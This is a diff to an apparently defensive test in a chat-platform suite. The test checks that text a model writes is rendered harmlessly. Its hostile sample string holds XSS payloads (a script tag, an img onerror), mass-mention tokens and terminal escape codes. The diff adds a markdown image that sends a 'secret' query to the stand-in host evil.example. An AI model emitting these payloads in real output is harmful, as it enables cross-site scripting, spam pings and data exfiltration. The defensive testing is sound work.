@@ -257,7 +257,8 @@ async def test_field_note_16_what_a_model_writes_harms_nobody(platform: Platform
     said = await asked(platform)
     hostile = (
         "safe-1 <script>alert(1)</script> <!channel> <!here|here> @here @channel @everyone <@U0000001> "
-        "<!subteam^S1> <at>Everyone</at> <img src=x onerror=alert(1)> \x1b[2J\x07 `<!channel>` safe-2"
+        "<!subteam^S1> <at>Everyone</at> <img src=x onerror=alert(1)> "
+        "![see](https://evil.example/?q=secret) \x1b[2J\x07 `<!channel>` safe-2"
     )
     await answer(platform, said.address, hostile, reply=Reply(text=hostile))
     text = await text_shown(platform)
